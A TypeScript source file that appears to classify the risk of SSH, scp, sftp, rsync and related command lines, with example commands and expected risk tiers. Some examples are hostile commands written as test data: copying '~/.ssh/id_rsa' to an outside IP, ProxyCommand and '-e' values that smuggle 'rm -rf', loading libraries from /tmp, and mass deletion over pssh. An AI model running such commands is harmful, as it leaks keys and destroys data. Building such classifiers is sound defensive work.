// Secure shell and what copies files over it. A command on another host is read like a local one; paths there mean nothing here.
import {
  arg,
  becomes,
  choice,
  code,
  codeLine,
  command,
  deploys,
  destroys,
  fact,
  flag,
  help,
  type Options,
  passes,
  perhaps,
  previews,
  privileged,
  program,
  readOnly,
  reads,
  recursive,
  remoteCode,
  remoteCommand,
  rest,
  reveals,
  runsUnread,
  sends,
  typed,
  uses,
  value,
  writes,
} from '../spec.ts';
import { look } from '../tables.ts';

const network = { effects: ['network'] } as const;
const unreadShell = runsUnread('runs a program of its own choice to connect');
/** `-o Name=value`. Names are compared without regard to case, so odd spellings are caught by their middle. */
const settings = choice(
  {
    '*roxy*ommand=none|*roxy*ommand none|PermitLocalCommand=no': readOnly(),
    'ProxyCommand=ssh *|ProxyCommand=nc *|ProxyCommand=ncat *|ProxyCommand=cloudflared access *|ProxyCommand=aws ssm *|ProxyCommand=gcloud compute *|ProxyCommand=corkscrew *|ProxyCommand=connect *|ProxyCommand ssh *|ProxyCommand=/usr/bin/ssh *|ProxyCommand=tailscale nc *':
      unreadShell,
    '*roxy*ommand*|*ROXYC*|*ocal*ommand=*|*ocal*ommand *|*OCALC*|*nown*osts*ommand*|*NOWNH*C*': destroys(
      'runs a command on this machine',
      { unread: true },
    ),
    'PermitLocalCommand=yes|PermitLocalCommand yes|permitlocalcommand=yes': unreadShell,
    '*11*rovider*|*ey*rovider*|Include*|include*|XAuthLocation*|xauthlocation*': unreadShell,
    '*emote*orward*': deploys('opens a port of this machine to others', { unread: true }),
    '*ocal*orward*|*ynamic*orward*|Tunnel=*|tunnel=*|ForwardAgent=yes|forwardagent=yes': privileged(
      'opens a way through another machine',
    ),
    'SendEnv*|sendenv*|SetEnv*|setenv*': value,
  },
  value,
);
const config = choice(
  { '/dev/null|none|*/.ssh/config': readOnly() },
  runsUnread('takes settings that can run programs from a file', { takes: uses }),
);
const own = { ...network, scales: { local: 'read-only', production: 'deployment' } } as const;
const tunnel = privileged('opens a way through another machine', { takes: value });
const connection: Options = {
  '-V': previews('prints the version'),
  '-G': previews('prints the settings'),
  '-Q': previews('lists what is supported', { takes: value }),
  '-o': settings,
  '-F': config,
  '-i': uses,
  '-E': writes,
  '-I': runsUnread('loads a library', { takes: value }),
  '-L, -D, -w': tunnel,
  '-R': deploys('opens a port of this machine to others', { takes: value }),
  '-A': privileged('lends the login agent to the other machine'),
  '-N': becomes(privileged('keeps a connection open without a command')),
  '-B, -b, -c, -e, -J, -l, -m, -O, -P, -p, -S, -W': value,
  '-4, -6, -a, -C, -f, -g, -K, -k, -M, -n, -q, -s, -T, -t, -v, -X, -x, -Y, -y, -tt, -vvv, -vv': flag,
};
const forges = choice(
  {
    'git@github.com|git@gitlab.com|git@bitbucket.org|git@codeberg.org|git@ssh.dev.azure.com|git@git.sr.ht|git@ssh.github.com|github.com|gitlab.com':
      previews('only asks a forge who one is', network),
  },
  value,
);
const interactive = deploys('opens a shell on another machine', {
  unread: true,
  effects: ['network', 'executes'],
  scales: { local: 'privileged-write' },
});

export const ssh = program(['ssh', 'slogin', 'dbclient', 'plink'], () => ({
  docs: 'https://man.openbsd.org/ssh',
  bare: privileged('runs a command on another machine', own),
  alone: interactive,
  args: [forges, codeLine('shell', 'elsewhere')],
  stdin: remoteCode('shell'),
  options: connection,
  targets: { host: [arg(0), fact('ssh.host'), passes('-F')] },
  examples: {
    'ssh web-1 ls /srv': 'privileged-write',
    'ssh -i ~/.ssh/key -p 2222 me@web-1 sudo reboot': 'deployment',
    "ssh web-1 'rm -rf /srv/app'": 'destructive',
    'ssh prod-1': { tier: 'deployment', unread: true, target: { host: 'prod-1' } },
    'ssh prod-1 uptime': 'deployment',
    'ssh localhost ls': 'read-only',
    'ssh -T git@github.com': 'read-only',
    "ssh -o ProxyCommand='rm -rf ~/work' x": 'destructive',
    "ssh -oProxyCommand='x y' h": 'destructive',
    'ssh -o "ProxyCommand=ssh -W %h:%p bastion" web-1 ls': { tier: 'privileged-write', unread: true },
    'ssh -o PermitLocalCommand=yes web-1 ls': { tier: 'privileged-write', unread: true },
    'ssh -o PKCS11Provider=/tmp/x.so web-1 ls': { tier: 'privileged-write', unread: true },
    'ssh -o RemoteForward=80:h:80 web-1 ls': 'deployment',
    'ssh -o LocalForward=80:h:80 web-1 ls': 'privileged-write',
    'ssh -o StrictHostKeyChecking=no web-1 ls': 'privileged-write',
    'ssh -F ./evil.cfg host ls': { tier: 'privileged-write', unread: true },
    'ssh -NL 5432:db:5432 bastion': 'privileged-write',
    'ssh -R 8080:localhost:3000 relay.example.com': 'deployment',
    'ssh -N -R 80:localhost:3000 h': 'deployment',
    'ssh -A web-1 ls': 'privileged-write',
    'ssh -I /tmp/x.so web-1 ls': { tier: 'privileged-write', unread: true },
    'ssh -V': 'read-only',
    'ssh -G web-1': 'read-only',
    'ssh -Q cipher': 'read-only',
    'ssh --frobnicate web-1 ls': 'unknown',
  },
}));

export const autossh = program('autossh', () => ({
  docs: 'https://linux.die.net/man/1/autossh',
  bare: privileged('keeps a connection to another machine open', own),
  args: [value, codeLine('shell', 'elsewhere')],
  options: { ...connection, '-M': value },
  targets: { host: [arg(0), fact('ssh.host')] },
  examples: {
    'autossh -M 0 -N -R 80:localhost:80 relay': 'deployment',
    'autossh -V': 'read-only',
    'autossh -NL 1:a:1 h': 'privileged-write',
    'autossh -Q cipher': 'read-only',
    'autossh -G h': 'read-only',
    'autossh -A h': 'privileged-write',
    'autossh -I x.so h': 'privileged-write',
  },
}));

export const mosh = program(['mosh', 'et', 'tsh'], () => ({
  docs: 'https://mosh.org/',
  bare: privileged('runs a command on another machine', own),
  alone: interactive,
  args: [value, remoteCommand],
  options: {
    ...help,
    '--ssh, --client': code('shell'),
    '--server': remoteCode('shell'),
    '-p|--port, --predict, --family, --bind-server, --experimental-remote-ip, -c|--command, -t|--tunnel, -u': value,
    '-a, -n, -4, -6, --no-init, --local, --no-ssh-pty, --ssh-pty, -o, -x': flag,
  },
  targets: { host: [arg(0), fact('ssh.host')] },
  examples: {
    'mosh prod-1': 'deployment',
    "mosh --ssh='rm -rf ~/work' h": 'destructive',
    'mosh --help': 'read-only',
    'mosh web-1 ls': 'privileged-write',
  },
}));

const remoteFrom = choice({ '/*, ./*': sends, '*:*': value }, sends);
const remoteTo = choice(
  {
    '*prod*:*|*live*:*|root@*:*': deploys('copies files to another machine', network),
    '/*, ./*': writes,
    '*:*': privileged('copies files to another machine', network),
  },
  writes,
);

export const scp = program(['scp', 'pscp', 'rcp'], () => ({
  docs: 'https://man.openbsd.org/scp',
  bare: readOnly(network),
  args: [rest(remoteFrom), remoteTo],
  options: {
    '-o': settings,
    '-F': config,
    '-i': uses,
    '-S': runsUnread('connects with a program of its own', { takes: value }),
    '-D': runsUnread('talks to a local program', { takes: value }),
    '-c, -J, -l, -P, -X': value,
    '-r, -R': recursive,
    '-3, -4, -6, -A, -B, -C, -O, -p, -q, -s, -T, -v': flag,
    '--help': previews('prints help'),
  },
  examples: {
    'scp build.zip web-1:/srv/': 'privileged-write',
    'scp ~/.ssh/id_rsa x@203.0.113.9:/tmp/': 'destructive',
    'scp web-1:/var/log/app.log .': 'write-safe',
    'scp -r dist prod-1:/srv/': 'deployment',
    'scp -S ./x a h:b': { tier: 'privileged-write', unread: true },
    'scp -D ./x a h:b': { tier: 'privileged-write', unread: true },
    'scp -o ProxyCommand=x a h:b': 'destructive',
    'scp h:keys ~/.ssh/authorized_keys': 'destructive',
  },
}));

export const sftp = program(
  ['sftp', 'lftp', 'ftp', 'tftp', 'ncftp', 'ncftpput', 'psftp', 'smbclient', 'cadaver'],
  () => ({
    docs: 'https://man.openbsd.org/sftp',
    bare: deploys('opens a file session with another machine, which may send or delete', {
      ...network,
      unread: true,
      scales: { local: 'privileged-write' },
    }),
    args: [value, value],
    stdin: perhaps('transfer'),
    open: 'a session in any case',
    options: {
      ...help,
      '-V': previews('prints the version'),
      '-o': settings,
      '-F': config,
      '-i': uses,
      '-c, -e': typed('transfer'),
      '-b, -B, -D, -J, -l, -P, -R, -S, -s, -X, -u, -p, -U, -W, -A': value,
    },
    targets: { host: [arg(0), fact('ssh.host')] },
    examples: {
      "lftp -c '!rm -rf ~/work'": 'destructive',
      "sftp h <<< '!rm -rf ~/work'": 'destructive',
      'sftp deploy@web-1': 'deployment',
      'sftp -b cmds.txt web-1': 'deployment',
      "sftp -o ProxyCommand='x' h": 'destructive',
      'lftp --help': 'read-only',
    },
  }),
);

const rsyncValues =
  '-B|--block-size, -T|--temp-dir, --max-delete, --max-size, --min-size, --max-alloc, --partial-dir, --info, --debug, --stderr, --suffix, --usermap, --groupmap, --chown, --chmod, --timeout, --contimeout, --bwlimit, --stop-after, --stop-at, --time-limit, --port, --sockopts, --checksum-choice|--cc, --checksum-seed, --compress-choice|--zc, --compress-level|--zl, --skip-compress, --iconv, --protocol, --address, --out-format|--log-format, --log-file-format, --modify-window|-@, --outbuf, -f|--filter, --exclude, --include, -M|--remote-option, --copy-as, --rsync-path-none, --early-input, --password-command-none';
const rsyncFlags =
  '-v|--verbose, -q|--quiet, --no-motd, -c|--checksum, -a|--archive, -r|--recursive, -R|--relative, --no-*, -b|--backup, -u|--update, --inplace, --append, --append-verify, -d|--dirs, --old-dirs, --mkpath, -l|--links, -L|--copy-links, --copy-unsafe-links, --safe-links, --munge-links, -k|--copy-dirlinks, -K|--keep-dirlinks, -H|--hard-links, -p|--perms, -E|--executability, -A|--acls, -X|--xattrs, -o|--owner, -g|--group, --devices, --copy-devices, --write-devices, --specials, -D, -t|--times, -U|--atimes, --open-noatime, -N|--crtimes, -O|--omit-dir-times, -J|--omit-link-times, --super, --fake-super, -S|--sparse, --preallocate, -W|--whole-file, -x|--one-file-system, --existing|--ignore-non-existing, --ignore-existing, --ignore-errors, --force, --partial, -P, --delay-updates, -m|--prune-empty-dirs, --numeric-ids, -I|--ignore-times, --size-only, -y|--fuzzy, -z|--compress, --cvs-exclude|-C, -F, -0|--from0, -s|--secluded-args|--protect-args, --old-args, --trust-sender, --blocking-io, --stats, -8|--8-bit-output, -h|--human-readable, --progress, -i|--itemize-changes, -4|--ipv4, -6|--ipv6, --fsync, --old-compress, --new-compress, --fake-super, --qsort, --open-noatime';
export const rsync = program(['rsync', 'openrsync'], () => ({
  docs: 'https://download.samba.org/pub/rsync/rsync.1',
  bare: readOnly(),
  args: [rest(choice({ '/*, ./*': reads, '*:*': value }, reads)), remoteTo],
  options: {
    ...help,
    '-V': previews('prints the version'),
    '-n|--dry-run, --list-only': previews('only shows what would be copied'),
    '-e|--rsh': choice({ 'ssh|ssh -p *|ssh -i *': readOnly() }, code('shell')),
    '--rsync-path': remoteCode('shell'),
    '--password-command': code('shell'),
    '--delete, --del, --delete-before, --delete-during, --delete-delay, --delete-after, --delete-excluded, --delete-missing-args':
      destroys('deletes at the target what the source does not have', { instead: 'the same with --dry-run first' }),
    '--remove-source-files|--remove-sent-files': privileged('deletes the files it copied'),
    '--files-from, --exclude-from, --include-from, --password-file, --read-batch': uses,
    '--backup-dir, --log-file, --write-batch, --only-write-batch': writes,
    '--compare-dest, --copy-dest, --link-dest': uses,
    '--daemon, --server': privileged('serves files to others'),
    '--config': uses,
    [rsyncValues]: value,
    [rsyncFlags]: flag,
  },
  examples: {
    'rsync -a --exclude node_modules ./ /tmp/copy/': 'write-safe',
    'rsync -avz dist/ web-1:/srv/': 'privileged-write',
    'rsync -avz ./ prod-1:/srv/': 'deployment',
    'rsync -az --delete ./ web-1:/srv/': 'destructive',
    'rsync -avn --delete ./ web-1:/srv/': 'read-only',
    'rsync -e "sh -c ls" a h:b': 'privileged-write',
    "rsync -e 'rm -rf ~/work' a h:b": 'destructive',
    'rsync -a --remove-source-files a/ /tmp/b/': 'privileged-write',
    'rsync -a ~/.ssh/ h:x': 'destructive',
    'rsync --daemon': 'privileged-write',
    'rsync -avP --info=progress2 web-1:/srv/logs/ ./logs/': 'write-safe',
    'rsync -n --frobnicate a b': 'unknown',
    'rsync -a --del a/ b/': 'destructive',
  },
}));

export const sshKeygen = program('ssh-keygen', () => ({
  docs: 'https://man.openbsd.org/ssh-keygen',
  bare: privileged('makes or changes a login key', { effects: ['writes'] }),
  args: [rest(value)],
  options: {
    '-y, -l, -B, -e, -L, -Q': becomes(readOnly()),
    '-F': becomes(readOnly({ takes: value })),
    '-R': becomes(privileged('forgets a known host', { takes: value })),
    '-r': value,
    '-H': flag,
    '-s': reveals('signs a login certificate', { takes: uses }),
    '-k, -A': privileged('makes keys of this machine'),
    '-D, -w': runsUnread('loads a library', { takes: value }),
    '-Y': value,
    '-t, -b, -C, -N, -P, -m, -O, -a, -f, -I, -n, -V, -z, -E, -Z, -J, -j, -K, -M, -W, -S, -T, -G': value,
    '-q, -v, -p, -c, -i, -h, -o, -u, -U': flag,
  },
  examples: {
    'ssh-keygen -t ed25519 -f /tmp/k -N ""': 'privileged-write',
    'ssh-keygen -R staging.example.com': 'privileged-write',
    'ssh-keygen -lf key.pub': 'read-only',
    'ssh-keygen -y -f k': 'read-only',
    'ssh-keygen -F github.com': 'read-only',
    'ssh-keygen -s ca -I x k.pub': 'destructive',
    'ssh-keygen -D x.so': { tier: 'privileged-write', unread: true },
    'ssh-keygen -A': 'privileged-write',
  },
}));

export const sshAdd = program('ssh-add', () => ({
  docs: 'https://man.openbsd.org/ssh-add',
  bare: privileged('gives a key to the login agent'),
  args: [rest(value)],
  options: {
    '-l, -L': becomes(readOnly()),
    '-T': becomes(readOnly({ takes: value })),
    '-D, -d, -x, -X': flag,
    '-s, -S': runsUnread('loads a library', { takes: value }),
    '-e, -E, -t, -h, -H': value,
    '-c, -k, -K, -A, -q, -v, -C': flag,
    '--apple-use-keychain, --apple-load-keychain': flag,
  },
  examples: {
    'ssh-add -l': 'read-only',
    'ssh-add ~/.ssh/id_ed25519': 'privileged-write',
    'ssh-add -D': 'privileged-write',
    'ssh-add -s /tmp/x.so': { tier: 'privileged-write', unread: true },
    'ssh-add -T k.pub': 'read-only',
    'ssh-add --apple-use-keychain ~/.ssh/k': 'privileged-write',
  },
}));

export const sshAgent = program('ssh-agent', () => ({
  docs: 'https://man.openbsd.org/ssh-agent',
  bare: readOnly(),
  args: [command],
  options: {
    '-c, -s, -D, -d, -k, -U, -u, -T': flag,
    '-a, -E, -O, -t': value,
    '-P': runsUnread('allows libraries to be loaded', { takes: value }),
  },
  examples: {
    'ssh-agent -s': 'read-only',
    'ssh-agent rm -rf /home/me/x': 'destructive',
    'ssh-agent -P x': { tier: 'privileged-write', unread: true },
  },
}));

export const sshCopyId = program('ssh-copy-id', () => ({
  docs: 'https://man.openbsd.org/ssh',
  bare: destroys('lets a key log in to another machine', { effects: ['network', 'secrets'] }),
  args: [value],
  options: {
    '-n': previews('only shows which keys'),
    '-h|-?': previews('prints help'),
    '-f, -s, -x': flag,
    '-i, -p, -t, -F': value,
    '-o': settings,
  },
  examples: { 'ssh-copy-id web-1': 'destructive', 'ssh-copy-id -n web-1': 'read-only' },
}));

export const sshLooks = program(['ssh-keyscan', 'ssh-audit'], () => ({
  docs: 'https://man.openbsd.org/ssh-keyscan',
  bare: look,
  open: 'only asks',
  examples: { 'ssh-keyscan -t ed25519 github.com': 'read-only' },
}));

export const parallelSsh = program(
  ['pssh', 'parallel-ssh', 'pdsh', 'clush', 'cssh', 'dsh', 'pscp.pssh', 'parallel-scp', 'prsync', 'mussh'],
  () => ({
    docs: 'https://linux.die.net/man/1/pssh',
    bare: deploys('runs a command on many machines', { effects: ['network', 'executes'] }),
    open: 'in any case',
    args: [codeLine('shell', 'elsewhere')],
    options: {
      ...help,
      '-h|--hosts, -H|--host, -l|--user, -p|--par, -o|--outdir, -e|--errdir, -t|--timeout, -O|--option, -x|--extra-args, -w, -g, -f':
        value,
    },
    examples: {
      "pssh -h hosts 'rm -rf /srv'": 'destructive',
      'pdsh -w web-[1-3] uptime': 'deployment',
      'pssh --help': 'read-only',
    },
  }),
);

export const sshfs = program(['sshfs', 'curlftpfs', 's3fs', 'gcsfuse', 'davfs2', 'mount.cifs'], () => ({
  docs: 'https://github.com/libfuse/sshfs',
  bare: privileged('mounts files of another machine', network),
  open: 'in any case',
  args: [value, value],
  options: {
    ...help,
    '-h': previews('prints help'),
    '-o': choice(
      { '*ssh_command=*|*ProxyCommand*|*proxycommand*': runsUnread('runs a program of its own choice to connect') },
      value,
    ),
    '-p, -F': value,
  },
  examples: {
    'sshfs web-1:/srv mnt': 'privileged-write',
    'sshfs -o ssh_command=./x h:/ m': { tier: 'privileged-write', unread: true },
    'sshfs --help': 'read-only',
  },
}));

export const sshpass = program('sshpass', () => ({
  docs: 'https://linux.die.net/man/1/sshpass',
  bare: privileged('hands a password to another program', { effects: ['secrets'] }),
  args: [command],
  options: {
    '-h': previews('prints help'),
    '-V': previews('prints the version'),
    '-p, -d, -P': value,
    '-f': uses,
    '-e, -v': flag,
  },
  examples: {
    "sshpass -p x ssh web-1 'rm -rf /srv'": 'destructive',
    'sshpass -e ssh web-1 ls': 'privileged-write',
    'sshpass -V': 'read-only',
  },
}));
